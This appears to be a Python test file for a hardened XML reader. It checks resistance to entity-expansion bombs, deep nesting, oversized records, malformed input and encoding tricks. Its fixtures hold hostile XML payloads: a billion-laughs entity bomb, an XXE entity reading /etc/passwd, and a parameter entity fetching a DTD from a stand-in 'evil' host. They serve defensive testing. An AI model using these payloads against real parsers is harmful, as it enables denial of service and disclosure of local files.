"""XML from strangers costs neither memory nor time, reads no file, and is read as far as it goes."""

from __future__ import annotations

import io
import time
from collections.abc import Container
from xml.etree.ElementTree import Element

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detector.reading.decoding import limits
from detector.reading.formats.xml_safe import defines_entities, iterate_records, root_name
from detector.reading.source import Unusable

BOMB = "<!DOCTYPE a [<!ENTITY b0 'ha'>" + "".join(
    f"<!ENTITY b{level} '{f'&b{level - 1};' * 10}'>" for level in range(1, 12)
)


def parse_xml(data: bytes) -> Element:
    """The root of a complete document."""
    [root] = iterate_records(io.BytesIO(data))
    return root


def read_until_error(data: bytes, containers: Container[str] = ()) -> tuple[list[str], str | None]:
    """The tags of the records, and what is wrong after them."""
    tags = []
    try:
        for element in iterate_records(io.BytesIO(data), containers):
            tags.append(element.tag)
    except Unusable as error:
        return tags, str(error)
    return tags, None


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BOMB + "]><a>&b11;</a>", "the XML defines its own entities"),
        (f"<!DOCTYPE a [<!ENTITY b '{'x' * 50_000}'>]><a>{'&b;' * 50_000}</a>", "the XML defines its own entities"),
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "the XML defines its own entities"),
        ('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil/x.dtd"> %b;]><a/>', "the XML defines its own entities"),
        ("<a>" * 100_000, "XML elements are nested more than 256 deep"),
        ("<a>" + "<b/>" * 100_000 + "</a>", "an XML record has more than 100000 elements"),
        ("<a><b></a>", "malformed XML: mismatched tag (line 1, column 9)"),
        ("<a>\n<b", "malformed XML: unclosed token (line 2, column 1)"),
        ("<a>&#0;</a>", "malformed XML: reference to invalid character number (line 1, column 4)"),
        ("", "malformed XML: no element found (line 1, column 1)"),
    ],
)
def test_hostile_and_broken_documents_are_rejected_with_one_line(document: str, reason: str) -> None:
    start = time.process_time()
    _, error = read_until_error(document.encode())
    assert error is not None
    assert error.startswith(reason)
    assert "\n" not in error
    assert time.process_time() - start < 10


def test_an_external_dtd_is_neither_rejected_nor_fetched() -> None:
    root = parse_xml(b'<!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss>caf&eacute;&nbsp;&unheard-of;</rss>')
    assert root.text == "caf\u00e9\u00a0&unheard-of;"


def test_records_are_streamed_and_those_before_damage_are_kept() -> None:
    document = b"<set xmlns='u' n='1'><item>one</item><part><item>two</item></part><item>thr"
    tags, error = read_until_error(document, {"{u}set", "{u}part"})
    assert tags == ["{u}set", "{u}item", "{u}part", "{u}item"]
    assert error == f"malformed XML: no element found (line 1, column {len(document) + 1})"
    container, item, *_ = iterate_records(io.BytesIO(b"<set n='1' xml:lang='vi'><item>one</item></set>"), {"set"})
    assert container.attrib == {"n": "1", "{http://www.w3.org/XML/1998/namespace}lang": "vi"}
    assert len(container) == 0
    assert item.text == "one"


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("UTF-8", "Ngập lụt 洪水 فيضان"),
        ("ISO-8859-1", "Crue à Orléans – “deux”"),
        ("windows-1251", "Наводнение"),
        ("GB2312", "洪水"),
        ("Shift_JIS", "洪水"),
        ("EUC-KR", "홍수"),
        ("windows-1256", "فيضان"),
    ],
)
def test_the_declared_encoding_counts_unless_the_bytes_are_utf_8(encoding: str, text: str) -> None:
    document = f'<?xml version="1.0" encoding="{encoding}"?><a>{text}</a>'
    real = {"ISO-8859-1": "cp1252"}.get(encoding, encoding)
    assert parse_xml(document.encode(real)).text == text
    assert parse_xml(document.encode()).text == text


def test_codecs_that_are_not_charsets_are_not_used() -> None:
    for name in ("punycode", "unicode_escape", "rot13", "undefined", "utf-16", "no-such"):
        assert parse_xml(f'<?xml version="1.0" encoding="{name}"?><a>-\\u0041</a>'.encode()).text == "-\\u0041"


def test_characters_that_xml_forbids_do_not_end_the_reading() -> None:
    assert parse_xml(b"<a>one\x0btwo\x00\xff</a>").text == "one\ufffdtwo\ufffdÿ"


def test_a_record_is_bounded_and_many_records_are_not(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "RECORD_LIMIT", 1000)
    monkeypatch.setattr(limits, "MIB", 100)
    many = b"<set>" + b"<item>one</item>" * 1000 + b"</set>"
    assert len(read_until_error(many, {"set"})[0]) == 1001
    for long in (b"<set><item>" + b"x" * 3000, b"<set><!--" + b"x" * 3000, b"<set><item a='" + b"x" * 3000):
        assert read_until_error(long, {"set"})[1] == (
            "an XML element is longer than 1000 bytes, the limit for one record"
        )


@pytest.mark.parametrize(
    ("head", "name"),
    [
        ("<rss version='2.0'>", "rss"),
        ('\n<?xml version="1.0"?>\n<!-- a --><!-- <b> -->\n<rdf:RDF xmlns="u">', "rdf"),
        ('<!DOCTYPE rss PUBLIC "-//Netscape" "x.dtd" [<!ENTITY a "b>">] ><rss>', "rss"),
        ("<!doctype HTML><title>Flood</title>", "html"),
        ("<!-- saved from url=(0014)about:internet --><HTML lang=fr>", "html"),
        ("<newsMessage>", "newsmessage"),
        ("1 < 2", ""),
        ("<3 you", ""),
        ("", ""),
    ],
)
def test_the_root_element_is_found_in_the_head(head: str, name: str) -> None:
    assert root_name(head) == name


@pytest.mark.parametrize("part", ["<!---->", "<!--", "<?", "<!doctype a [", "<!doctype a>", " ", "<a", "<!-- -->x"])
def test_no_head_takes_long(part: str) -> None:
    head = part * (limits.HEAD_SIZE // len(part))
    start = time.process_time()
    root_name(head), defines_entities(head)
    assert time.process_time() - start < 10


@given(st.text(alphabet="<>&;!-[]?/'\"=ab \n\x00é"))
def test_no_text_raises_another_error(text: str) -> None:
    read_until_error(text.encode(), {"a"})
    root_name(text)
